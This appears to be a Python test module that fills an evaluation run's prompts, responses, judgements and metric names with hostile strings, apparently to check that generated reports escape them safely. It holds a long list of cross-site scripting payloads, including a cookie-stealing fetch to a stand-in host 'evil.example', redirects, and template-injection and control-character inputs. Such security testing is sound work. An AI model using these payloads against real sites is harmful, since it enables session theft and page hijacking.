"""A small run in which everything that a model, a judge or a server may write is hostile."""

from pathlib import Path

from eval.benchmarks.data_map.measure import MapPoint, NearTexts
from eval.records import KindRow, MetricValue, Verdict, verdict_id
from srlm.methods.base import run_folder
from srlm.records import Checkpoint, Judgement, Prompt, Response, RunManifest
from srlm.settings import ModelSettings, Settings
from srlm.store import files
from srlm.store.folder import RunFolder
from srlm.worlds.beads.settings import BeadsData
from tests.eval.report import small

PAYLOADS = (
    # script elements, and ends of the elements that the page's own data stand in
    "<script>window.pwned=1;alert(1)</script>",
    "</script><script>window.pwned=1;alert(1)</script>",
    "</SCRIPT ><ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<script>fetch('https://evil.example/?'+document.cookie)</script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='window.pwned=1'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerrawupdate=alert(1) style='position:fixed;inset:0'>",
    "<a onclick=alert(1)>click</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    # style sheets, layout
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999'>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<table><tr><td>" * 20,
    "w" * 5000,
    "\u0645\u0631\u062d\u0628\u0627 " * 200,
    # links
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # templates, entities, JSON
    "{{ 4321*8 }} {% raw %} ${4321*8} <%= 4321*8 %> #{4321*8}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;",
    '"}];alert(1);[{"a":"',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\",
    "__proto__ constructor toString hasOwnProperty",
    # bidi, control and other special characters
    "\u202e\u202dabc\u2066def\u2069 reversed \u200f\u200b\u200d\ufeff",
    "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x7f\x85\x9b",
    "line\u2028separator\u2029paragraph\x0bvertical\x0cform",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351algo \ufffe\uffff",
    '=HYPERLINK("https://evil.example/","x")',
    "| a | b |\n|---|---|\n`code` **bold** # heading",
    "",
)
MEGABYTE = "<b>long</b> \u202e" * 90_000


def run(tmp_path: Path, payloads: tuple[str, ...] = (*PAYLOADS, MEGABYTE), **settings: object) -> RunFolder:
    """A measured run of SFT and M1 whose prompts, answers, judgements, judges and names of models are the payloads."""
    folder = run_folder(
        Settings(
            name="hostile",
            runs=str(tmp_path / "runs"),
            model=ModelSettings(base="<img src=x onerror=alert(1)>"),
            data=BeadsData(),
            **settings,
        )
    )
    prompts = [Prompt.of(f"{number} {text[:20_000]}", text[:300], text[:300]) for number, text in enumerate(payloads)]
    files.write(folder.step("data") / "evaluation_prompts.jsonl", prompts)
    for step in ("SFT", "M1"):
        made = Checkpoint(name=step, parent=None, path=f"{step}/model", digest=step)
        counts = {text[:200]: text[:200] for text in payloads[:20]} | {"warning": payloads[0]}
        folder.finish(
            RunManifest(
                step=step, settings_digest="0", seed=1, versions={payloads[0]: payloads[1]}, commit=payloads[2],
                checkpoint=made, inputs={}, outputs={}, counts=dict(counts),
            )
        )  # fmt: skip
        answers = [Response.of(p.id, text, step, 0, "stop") for p, text in zip(prompts, payloads, strict=True)]
        place = folder.step("evaluation") / step
        files.write(place / "responses.jsonl", answers)
        files.write(place / "own_responses.jsonl", answers)
        judgements = [Judgement.of(a.id, step, d, a.text[:9000] or ".", float(d * 4)) for a in answers for d in (0, 1)]
        files.write(place / "own_judgements.jsonl", judgements)
    small.alpaca(
        folder,
        [Prompt.of(f"alpaca {n} {text[:9000]}", "alpaca_eval", text[:300]) for n, text in enumerate(payloads)],
        {"M1": list(payloads)},
        {"M1": [(None if n % 2 else 0.25, text[:9000]) for n, text in enumerate(payloads)]},
    )
    verdicts = [
        Verdict(
            id=verdict_id(f"a{number}", f"b{number}", text[:99]), prompt_id=prompt.id, model_a="M1", model_b="SFT",
            response_a_id=f"a{number}", response_b_id=f"b{number}", judge=text[:99], preference_ab=0.0,
            preference_ba=0.0, outcome="lose", raw_ab=text[:9000], raw_ba=text[:9000],
        )
        for number, (prompt, text) in enumerate(zip(prompts, payloads, strict=True))
    ]  # fmt: skip
    files.write(folder.step("evaluation") / "verdicts" / "M1-vs-SFT.jsonl", verdicts)
    names = [text[:300] for text in payloads if text]
    metrics = [
        _metric(name, benchmark, metric, baseline)
        for name in names
        for benchmark, metric, baseline in (
            ("audit", name, None),
            ("alpaca_eval", "win_rate", name),
            ("canaries", "fooled", None),
        )
    ]
    metrics += [_metric(n, "head_to_head", m, n) for n in names[:9] for m in ("win", "tie", "lose", "win_minus_lose")]
    metrics += [_metric("M1", "slices", f"category: {name}", "SFT") for name in names]
    metrics += _kinds_and_map(folder, prompts, names)
    files.write_json(folder.step("evaluation") / "metrics.json", [m.model_dump(mode="json") for m in metrics])
    return folder


def _kinds_and_map(folder: RunFolder, prompts: list[Prompt], names: list[str]) -> list[MetricValue]:
    """Categories, labels and texts of a map that anybody may have written."""
    place = folder.step("evaluation")
    rows = [
        KindRow(
            prompt_id=prompt.id, sets=("head_to_head", "alpaca_eval"), instruction=prompt.text, category=name,
            complexity=1, length=name, unread={}, judge=name,
        )
        for prompt, name in zip(prompts, names, strict=False)
    ]  # fmt: skip
    files.write(place / "breakdown" / "kinds.jsonl", rows)
    near = [NearTexts(first=name, second=name, text=name, other=name, cosine=1.0) for name in names]
    files.write(place / "data_map" / "near.jsonl", near)
    points = [MapPoint(of=names[n % 2], x=n, y=-n, text=name) for n, name in enumerate(names)]
    files.write(place / "data_map" / "places.jsonl", points)
    said = {"model": names[0], "perplexity": 1.0, "sets": {names[0]: names[1]}, "drawn": {names[0]: 1}, "eft": names[0]}
    files.write_json(place / "data_map" / "made.json", said | {"cut": {names[0]: 1}})
    found = [_metric("M1", "breakdown", f"{what}category: {name}", "SFT") for name in names for what in ("", "wins, ")]
    found += [_metric(name, "breakdown", f"prompts, category: {name}", None) for name in names]
    return found + [_metric(name, "data_map", "near_duplicates", name) for name in names]


def _metric(model: str, benchmark: str, metric: str, baseline: str | None) -> MetricValue:
    return MetricValue(
        model=model, benchmark=benchmark, metric=metric, value=0.25, low=0.125, high=0.5, n=8, unscored=1,
        method=model, note=model, baseline=baseline, p=0.5, p_adjusted=0.5,
    )  # fmt: skip
